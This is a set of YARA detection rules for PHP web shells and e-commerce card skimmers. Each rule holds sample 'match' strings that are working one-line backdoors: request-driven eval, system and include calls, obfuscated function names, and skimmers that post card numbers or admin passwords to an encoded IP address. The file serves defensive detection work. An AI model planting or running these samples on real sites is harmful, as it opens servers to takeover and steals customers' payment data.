// Web shells and skimmers in PHP whose shape takes more than literals to tell, written from how they work.
//
// `match` and `pass` are contents that a rule must and must not match; `magewarden rules test` tries them. `needs` are literals, in either case and
// with `|` between them: a content that has none of any rule's isn't given to the rules at all, which is what makes them cheap.

private rule is_php {
  strings:
    $open = /<\?(php|=|\s)/ nocase
  condition:
    $open
}

rule php_request_run_as_code {
  meta:
    description = "runs what a request carries, in whatever wrapping"
    needs = "$_get|$_post|$_request|$_cookie"
    match = "<?php @eval /* x */ (stripslashes( $_POST ['a']));"
    match = "<?php assert ( base64_decode( str_rot13($_COOKIE[0])));"
    match = "<?php $f = create_function('', \"return \" . $_REQUEST['b'] . \";\"); $f();"
    pass = "<?php assert(isset($_POST['a']) && is_string($_POST['a']));"
    pass = "<?php $value = $this->retrieval($_GET['id']); eval($template);"
  strings:
    $eval = /\b(eval|create_function)\s*(\/\*[^*]{0,40}\*\/\s*)?\([^;]{0,120}\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
    $assert = /\bassert\s*(\/\*[^*]{0,40}\*\/\s*)?\(\s*@?\s*((base64_decode|str_rot13|gzinflate|gzuncompress|stripslashes|urldecode|hex2bin|strrev|trim)\s*\(\s*){0,4}@?\$_(GET|POST|REQUEST|COOKIE)\s*[\[{]/ nocase
  condition:
    is_php and any of them
}

rule php_little_but_a_door {
  meta:
    description = "little more than running a variable in a file that takes one from a request"
    needs = "$_get|$_post|$_request|$_cookie|php://input|$_server['http_"
    match = "<?php $x = $_POST['a']; @eval($x);"
    match = "<?php $k = $_SERVER['HTTP_X_KEY']; if ($k) { system ( $k . ' 2>&1' ); }"
    match = "<?php $d = file_get_contents('php://input'); passthru($d);"
    pass = "<?php $x = $_POST['a']; return $this->retrieval($x); // eval() isn't used"
    pass = "<?php $x = $_GET['id']; $this->filesystem($x); $pdo->exec($sql); exec('convert ' . escapeshellarg($x));"
  strings:
    $request = /\$_(GET|POST|REQUEST|COOKIE)\s*[\[{]|php:\/\/input|\$_SERVER\s*\[\s*['"]HTTP_/ nocase
    $run = /[^>:\w$](eval|create_function|system|passthru|shell_exec|popen|proc_open)\s*\(\s*['"]?\s*@?\$\w/ nocase
  condition:
    is_php and filesize < 1500 and all of them
}

rule php_request_names_function {
  meta:
    description = "calls the function that a request names"
    needs = "$_get|$_post|$_request|$_cookie"
    match = "<?php $_GET['f']($_GET['a']);"
    match = "<?php @$_COOKIE[1] ( $_COOKIE[2] );"
    match = "<?php call_user_func_array($_REQUEST['f'], [$_REQUEST['a']]);"
    pass = "<?php foreach ($_POST['items'] as $item) { $callbacks['save']($item); }"
    pass = "<?php call_user_func($handler, $_POST['a']);"
  strings:
    $call = /\$_(GET|POST|REQUEST|COOKIE)\s*[\[{]\s*['"]?\w{1,40}['"]?\s*[\]}]\s*\(/ nocase
    $named = /\bcall_user_func(_array)?\s*\(\s*@?\$_(GET|POST|REQUEST|COOKIE)\s*[\[{][^\]},)]{1,40}[\]}]\s*,/ nocase
  condition:
    is_php and any of them
}

rule php_request_in_shell {
  meta:
    description = "puts what a request carries into a shell's command"
    needs = "$_get|$_post|$_request|$_cookie"
    match = "<?php echo shell_exec( 'ls ' . $_GET['d'] );"
    match = "<?php passthru ( base64_decode($_POST['c']) );"
    match = "<?php echo `{$_REQUEST['c']} 2>&1`;"
    pass = "<?php exec('identify ' . escapeshellarg($_FILES['image']['tmp_name']));"
    pass = "<?php $connection->exec('DELETE FROM a WHERE id = ' . (int) $_POST['id']); $r = curl_exec($_GET['x']);"
    pass = "<?php /* the page, `$_GET['p']`, is a number */ $sql = \"SELECT `$_POST[column]`\";"
  strings:
    $call = /[^>:\w$](system|passthru|shell_exec|popen|proc_open|pcntl_exec|exec)\s*\(\s*((base64_decode|str_rot13|stripslashes|urldecode|hex2bin|strrev|trim)\s*\(\s*){0,3}[^;()]{0,80}\$_(GET|POST|REQUEST|COOKIE)\s*[\[{]/ nocase
    $ticks = /(echo|return|print|=)\s*@?`\s*\{?[^`\n]{0,40}\$_(GET|POST|REQUEST|COOKIE)\s*[\[{][^`\n]{1,60}`\s*[;,.)]/ nocase
  condition:
    is_php and any of them
}

rule php_request_included {
  meta:
    description = "includes what a request names, sends or uploads"
    needs = "$_get|$_post|$_request|$_cookie|$_files|php://input|data:text/plain|data:;base64|data:,"
    match = "<?php @include_once( $_FILES['f']['tmp_name'] );"
    match = "<?php include 'data:text/plain;base64,' . $x;"
    match = "<?php require base64_decode($_COOKIE['p']);"
    pass = "<?php include $this->getTemplateFile($_GET['page']); require_once $_SERVER['DOCUMENT_ROOT'] . '/app/bootstrap.php';"
  strings:
    $request = /\b(include|require)(_once)?\s*\(?\s*@?((base64_decode|str_rot13|hex2bin|strrev|urldecode)\s*\(\s*){0,3}\$_(GET|POST|REQUEST|COOKIE|FILES)\s*[\[{]/ nocase
    $wrapper = /\b(include|require)(_once)?\s*\(?\s*['"](php:\/\/input|data:(text\/plain|;base64|,))/ nocase
  condition:
    is_php and any of them
}

rule php_request_written_as_named {
  meta:
    description = "writes what a request carries to the file that it names"
    needs = "$_get|$_post|$_request|$_cookie"
    match = "<?php file_put_contents($_GET['n'], base64_decode($_POST['d']));"
    match = "<?php fwrite(fopen($_POST['n'], 'w'), $_POST['d']);"
    pass = "<?php file_put_contents($directory . '/export.csv', $this->csv($_POST['rows']));"
  strings:
    $put = /\bfile_put_contents\s*\([^;,]{0,60}\$_(GET|POST|REQUEST|COOKIE)\s*[\[{][^;,]{0,60},[^;]{0,60}\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
    $write = /\bf(write|puts)\s*\(\s*fopen\s*\([^;,]{0,60}\$_(GET|POST|REQUEST|COOKIE)\s*[\[{][^;]{0,80},[^;]{0,60}\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
  condition:
    is_php and any of them
}

rule php_decoded_run_as_code {
  meta:
    description = "runs what it decodes, in whatever wrapping"
    needs = "eval|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|convert_uudecode|hex2bin|urldecode"
    match = "<?php eval ( '?>' . gzuncompress( base64_decode('eJw=') ) );"
    match = "<?php @assert(str_rot13(strrev($x)));"
    match = "<?php eval(/* a */ \"?>\" . file_get_contents(hex2bin('2f746d70')));"
    pass = "<?php eval('?>' . $twig->render()); $picture = base64_decode($data);"
    pass = "<?php assert(strrev($a) === $b);"
  strings:
    $eval = /\beval\s*\(\s*(\/\*[^*]{0,40}\*\/\s*)?(['"]\s*\?>\s*['"]\s*\.\s*)?@?((file_get_contents|trim|stripslashes)\s*\(\s*)?\\?(gzinflate|gzuncompress|gzdecode|base64_decode|str_rot13|strrev|convert_uudecode|hex2bin|urldecode|rawurldecode)\s*\(/ nocase
    $assert = /\bassert\s*\(\s*@?(gzinflate|gzuncompress|gzdecode|base64_decode|str_rot13|strrev|convert_uudecode|hex2bin|urldecode|rawurldecode)\s*\(\s*(gzinflate|gzuncompress|gzdecode|base64_decode|str_rot13|strrev|convert_uudecode|hex2bin|urldecode|rawurldecode)\s*\(/ nocase
  condition:
    is_php and any of them
}

rule php_long_chain_of_characters {
  meta:
    description = "spells code or names character by character, and calls what comes of it"
    needs = "chr(|chr ("
    match = "<?php $f = chr(98).chr(97).chr(115).chr(101).chr(54).chr(52).chr(95).chr(100).chr(101).chr(99).chr(111).chr(100).chr(101); $f($_POST['a']);"
    match = "<?php eval(chr(0x65) . chr(0x63) . chr(0x68) . chr(0x6f) . chr(0x20) . chr(0x31) . chr(0x3b) . chr(0x65) . chr(0x63) . chr(0x68) . chr(0x6f) . chr(0x20) . '1;');"
    pass = "<?php $map = [chr(195).chr(128) => 'A', chr(195).chr(129) => 'A']; $zip = chr(0).chr(0).chr(0).chr(0).chr(0).chr(0).chr(0).chr(0).chr(0).chr(0).chr(0).chr(0).chr(0);"
  strings:
    $chain = /(chr\s*\(\s*(0x[0-9a-f]{2}|\d{2,3})\s*\)\s*\.\s*){10}/ nocase
    $runs = /\b(eval|assert|create_function)\s*\(/ nocase
    $calls = /\$\w{1,20}\s*\(\s*@?\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
  condition:
    is_php and $chain and ($runs or $calls)
}

rule php_superglobal_in_disguise {
  meta:
    description = "reaches a request or the table of variables by a name that is spelled in escapes or in pieces"
    needs = "${\"|${'|${ \"|${ '"
    match = "<?php ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['a'] = 'b'; ${\"GL\\x4fB\\x41LS\"}['c'] = 1;"
    match = "<?php $x = ${'_P' . 'OST'}['a'];"
    match = "<?php $x = ${\"_\" . \"COOKIE\"};"
    pass = "<?php $x = ${'_' . $name}; $y = \"${amount} \\x41\"; $z = $GLOBALS['_POST'];"
  strings:
    $escapes = /\$\{\s*"[\w\\]{0,30}\\x[0-9a-f]{2}[\w\\]{0,60}"\s*\}/ nocase
    $pieces = /\$\{\s*['"](_['"]\s*\.\s*['"](GET|POST|REQUEST|COOKIE)|_G['"]\s*\.\s*['"]ET|_GE['"]\s*\.\s*['"]T|_P['"]\s*\.\s*['"]OST|_PO['"]\s*\.\s*['"]ST|_POS['"]\s*\.\s*['"]T|_RE['"]\s*\.\s*['"]QUEST|_REQ['"]\s*\.\s*['"]UEST|_CO['"]\s*\.\s*['"]OKIE|_COO['"]\s*\.\s*['"]KIE)['"]/
  condition:
    is_php and (#escapes > 1 or $pieces)
}

rule php_names_by_exclusive_or {
  meta:
    description = "makes names out of texts that it combines bit by bit"
    needs = "'^'|\"^\"|' ^ '|\" ^ \""
    match = "<?php $_=('a'^'>').('b'^'1').('c'^'0').('d'^'7');$_($_[0]);"
    pass = "<?php $a = $x ^ $y; $b = ('a' ^ 'b');"
  strings:
    $xor = /\(\s*['"][^'"\n]{1,12}['"]\s*\^\s*['"][^'"\n]{1,12}['"]\s*\)\s*[.;]/
  condition:
    is_php and #xor > 3
}

rule php_cookie_by_numbers {
  meta:
    description = "takes function and arguments out of a request by their places in it"
    needs = "$_get|$_post|$_request|$_cookie"
    match = "<?php $c = $_COOKIE; ($c && isset($c[18])) ? (($n = $c[18].$c[19]) && ($n = $n($c[2])) && $c[11]($c[12])) : 0;"
    pass = "<?php $post = $_POST; $row[0] = $this->filter($post['a']); $steps[1]($post);"
  strings:
    $taken = /\$\w{1,20}\s*=\s*&?\s*\$_(COOKIE|POST|REQUEST|GET)\s*;/ nocase
    $called = /\$\w{1,20}\s*[\[{]\s*\d{1,3}\s*[\]}]\s*\(\s*\$\w{1,20}\s*[\[{]\s*\d{1,3}\s*[\]}]/
  condition:
    is_php and all of them
}

rule php_request_kept_as_picture {
  meta:
    description = "keeps what a customer or administrator sends in a file that poses as a picture or as part of the theme"
    needs = "file_put_contents|fwrite|fputs|error_log"
    match = "<?php file_put_contents(BP . '/pub/media/catalog/a.jpg', base64_encode(json_encode($_POST)) . \"\\n\", FILE_APPEND);"
    match = "<?php error_log(bin2hex(serialize($_REQUEST)), 3, '/var/www/pub/static/b.png');"
    match = "<?php fwrite(fopen('../media/c.gif', 'a'), str_rot13(file_get_contents('php://input')));"
    pass = "<?php file_put_contents($directory . '/logo.png', base64_decode($this->getRequest()->getPost('logo')));"
    pass = "<?php error_log(json_encode($_POST), 3, '/var/log/post.log');"
  strings:
    $named_first = /\b(file_put_contents|fwrite|fputs)\s*\([^;]{0,120}\.(jpe?g|png|gif|ico|webp|css)['"][^;]{0,120}(base64_encode|json_encode|serialize|http_build_query|bin2hex|str_rot13|openssl_public_encrypt)\s*\([^;]{0,80}(\$_POST\b|\$_REQUEST\b|php:\/\/input|getPost(Value)?\s*\(\s*\)|getContent\s*\(\s*\))/ nocase
    $named_last = /\b(error_log|file_put_contents)\s*\([^;]{0,60}(base64_encode|json_encode|serialize|http_build_query|bin2hex|str_rot13)\s*\([^;]{0,80}(\$_POST\b|\$_REQUEST\b|php:\/\/input|getPost(Value)?\s*\(\s*\)|getContent\s*\(\s*\))[^;]{0,40},\s*3\s*,[^;]{0,120}\.(jpe?g|png|gif|ico|webp|css)['"]/ nocase
  condition:
    is_php and any of them
}

rule php_card_or_login_to_hidden_host {
  meta:
    description = "reads card fields or an administrator's login and sends to an address that it decodes"
    needs = "base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|convert_uudecode|hex2bin|urldecode|chr(|chr ("
    match = "<?php $p = $this->getRequest()->getPost('payment'); if ($p['cc_number']) { $c = curl_init(base64_decode('aHR0cDovLzE5OC41MS4xMDAuOS8=')); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode($p)); curl_exec($c); }"
    match = "<?php $l = $_POST['login']['password']; $u = strrev('/9.001.15.891//:ptth'); @file_get_contents(strrev('/9.001.15.891//:ptth') . '?' . $l);"
    pass = "<?php $this->setCcNumber($post['cc_number']); $curl = curl_init($this->config->getGatewayUrl()); $key = base64_decode($this->key);"
  strings:
    $card = /['"](cc_number|cc_cid|cc_exp_month|card_number|cardnumber|cvv2?)['"]/ nocase
    $login = /\blogin['"]?\]\s*\[\s*['"]password['"]/
    $host = /\b(curl_init|fsockopen|file_get_contents|fopen|stream_socket_client|mail)\s*\(\s*(base64_decode|strrev|str_rot13|hex2bin|gzinflate|convert_uudecode|chr)\s*\(/ nocase
    $option = /CURLOPT_URL\s*,\s*(base64_decode|strrev|str_rot13|hex2bin|gzinflate|convert_uudecode|chr)\s*\(/
  condition:
    is_php and ($card or $login) and ($host or $option)
}
